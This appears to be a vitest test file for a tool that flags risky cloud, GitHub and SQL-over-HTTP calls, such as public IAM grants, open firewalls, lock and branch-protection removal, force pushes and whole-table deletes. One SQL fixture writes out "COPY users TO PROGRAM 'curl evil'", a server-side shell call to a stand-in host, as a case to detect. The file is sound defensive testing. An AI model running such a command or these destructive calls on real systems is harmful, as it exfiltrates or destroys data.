// Flags and boundaries of calls as the recognisers of further families read them, end to end: what they call a parameter is what is looked for.
import { beforeAll, describe, expect, it } from 'vitest';
import { createActions, type ReadUpstream } from '../../../src/actions/registry.ts';
import { loadSqlParser } from '../../../src/actions/sql/load-sql-parser.ts';
import type { Action } from '../../../src/core/action.ts';
import type { Call } from '../../../src/core/call.ts';
import { callOf, flagsOf, ids } from './risk-fixture.ts';

const read = (call: Call, upstream: Partial<ReadUpstream>): readonly Action[] =>
  createActions([{ id: 'api', kind: undefined, basePath: '', ...upstream }]).recognise(call);
const flagged = (call: Call, upstream: Partial<ReadUpstream>): readonly string[] =>
  ids(flagsOf(call, read(call, upstream)));
const send = (method: string, url: string, body?: object): Call => callOf({ method, url, ...(body && { body }) });

describe('Google Cloud', () => {
  const gcp = { kind: 'gcp' } as const;
  const bind = (role: string, member: string): Call =>
    send('POST', 'https://cloudresourcemanager.googleapis.com/v1/projects/prod-1:setIamPolicy', {
      policy: { bindings: [{ role, members: [member] }] },
    });

  it.each<[Call, string, boolean]>([
    [bind('roles/owner', 'user:x@example.com'), 'wildcard-admin', true],
    [bind('roles/editor', 'user:x@example.com'), 'admin-role', true],
    [bind('roles/viewer', 'allUsers'), 'public-access', true],
    [bind('roles/viewer', 'user:x@example.com'), 'public-access', false],
    [
      send('POST', 'https://compute.googleapis.com/compute/v1/projects/prod-1/global/firewalls', {
        name: 'x',
        sourceRanges: ['0.0.0.0/0'],
      }),
      'open-ingress',
      true,
    ],
    [
      send('POST', 'https://storage.googleapis.com/storage/v1/b/x/acl', { entity: 'allUsers', role: 'READER' }),
      'public-access',
      true,
    ],
  ])('%j raises %s: %s', (call, id, expected) => expect(flagged(call, gcp).includes(id)).toBe(expected));

  const vm = (project: string, zone: string): Call =>
    send('DELETE', `https://compute.googleapis.com/compute/v1/projects/${project}/zones/${zone}/instances/vm`);
  const boundary = { regions: ['europe-*'], projects: ['prod-*'] };
  it.each<[Call, string]>([
    [vm('prod-1', 'europe-west1-b'), 'inside'],
    [vm('prod-1', 'us-central1-a'), 'outside'],
    [vm('dev', 'europe-west1-b'), 'outside'],
  ])('%j is %s', (call, place) =>
    expect(read(call, { ...gcp, boundary }).map((action) => action.boundary)).toEqual([place]),
  );
});

describe('Azure', () => {
  const azure = { kind: 'azure' } as const;
  const sub = '0b1f6471-1bf0-4dda-aec3-cb9272f09590';
  const at = (method: string, path: string, body?: object): Call =>
    send(method, `https://management.azure.com/subscriptions/${sub}${path}?api-version=2023-01-01`, body);
  const assign = (id: string): Call =>
    at('PUT', '/providers/Microsoft.Authorization/roleAssignments/x', {
      properties: {
        roleDefinitionId: `/subscriptions/${sub}/providers/Microsoft.Authorization/roleDefinitions/${id}`,
        principalId: 'p',
      },
    });
  const account = '/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/acc';

  it.each<[Call, string]>([
    [assign('8e3af657-a8ff-443c-a75c-2fe8c4bcb635'), 'wildcard-admin'],
    [assign('b24988ac-6180-42a0-ab88-20f7382dd24c'), 'admin-role'],
    [at('PUT', account, { location: 'eastus', properties: { allowBlobPublicAccess: true } }), 'public-block-removed'],
    [at('DELETE', '/providers/Microsoft.Authorization/locks/l'), 'protection-removed'],
  ])('%j raises %s', (call, id) => expect(flagged(call, azure)).toContain(id));

  it.each([
    ['westeurope', 'inside'],
    ['West Europe', 'inside'],
    ['eastus', 'outside'],
    ['East US', 'outside'],
  ])('a storage account in %s is %s', (location, place) => {
    const boundary = { regions: ['westeurope'], accounts: [sub] };
    const actions = read(at('PUT', account, { location, properties: {} }), { ...azure, boundary });
    expect(actions.map((action) => action.boundary)).toEqual([place]);
  });
});

describe('GitHub and git', () => {
  const github = { kind: 'github' } as const;
  it.each<[Call, string]>([
    [send('PATCH', 'https://api.github.com/repos/acme/web', { private: false }), 'public-access'],
    [send('PUT', 'https://api.github.com/repos/acme/web/collaborators/eve', { permission: 'admin' }), 'admin-role'],
    [send('DELETE', 'https://api.github.com/repos/acme/web/branches/main/protection'), 'protection-removed'],
    [send('DELETE', 'https://api.github.com/repos/acme/web/git/refs/heads/main'), 'protected-branch'],
    [
      send('PATCH', 'https://api.github.com/repos/acme/web/git/refs/heads/main', { sha: 'a'.repeat(40), force: true }),
      'force',
    ],
  ])('%j raises %s', (call, id) => expect(flagged(call, github)).toContain(id));

  it('a push that deletes main is a protected branch, one that adds to it is not', () => {
    const line = (text: string): string => (text.length + 4).toString(16).padStart(4, '0') + text;
    const push = (next: string, ref = 'refs/heads/main'): Call =>
      callOf({
        url: 'https://github.com/acme/web.git/git-receive-pack',
        body: `${line(`${'a'.repeat(40)} ${next} ${ref}\0report-status`)}0000`,
        type: 'application/x-git-receive-pack-request',
      });
    expect(flagged(push('0'.repeat(40)), {})).toContain('protected-branch');
    expect(flagged(push('b'.repeat(40)), {})).toEqual([]);
    expect(flagged(push('0'.repeat(40), 'refs/heads/feature'), {})).toEqual([]);
  });

  it('an issue raises no flag', () => {
    expect(flagged(send('POST', 'https://api.github.com/repos/acme/web/issues', { title: 'x' }), github)).toEqual([]);
  });

  it.each([
    ['acme', 'inside'],
    ['evil', 'outside'],
  ])('a repository of %s is %s', (owner, place) => {
    const call = send('DELETE', `https://api.github.com/repos/${owner}/web`);
    expect(read(call, { ...github, boundary: { namespaces: ['acme'] } }).map((action) => action.boundary)).toEqual([
      place,
    ]);
  });
});

describe('SQL over HTTP', () => {
  beforeAll(() => loadSqlParser());
  const neon = { kind: 'sql-over-http', sqlService: 'neon' } as const;
  const sql = (query: string): Call => callOf({ url: 'https://ep.neon.tech/sql', body: { query, params: [] } });

  it.each([
    ['DELETE FROM users', ['whole-table']],
    ['DELETE FROM users WHERE true', ['whole-table']],
    ['UPDATE users SET admin = true', ['whole-table']],
    ['DELETE FROM users WHERE id = 1', []],
    ['DROP TABLE users', ['whole-table']],
    ['TRUNCATE users', ['whole-table']],
    ["COPY users TO PROGRAM 'curl evil'", ['database-server']],
    ['SELECT 1', []],
  ])('%s raises %j', (query, expected) => {
    const found = flagged(sql(query), neon).filter((id) => id === 'whole-table' || id === 'database-server');
    expect(found).toEqual(expected);
  });

  it.each([
    ['DELETE FROM app.users WHERE id = 1', 'inside'],
    ['DELETE FROM secret.users WHERE id = 1', 'outside'],
  ])('%s is %s', (query, place) => {
    const actions = read(sql(query), { ...neon, boundary: { namespaces: ['app'] } });
    expect(actions.map((action) => action.boundary)).toContain(place);
  });
});
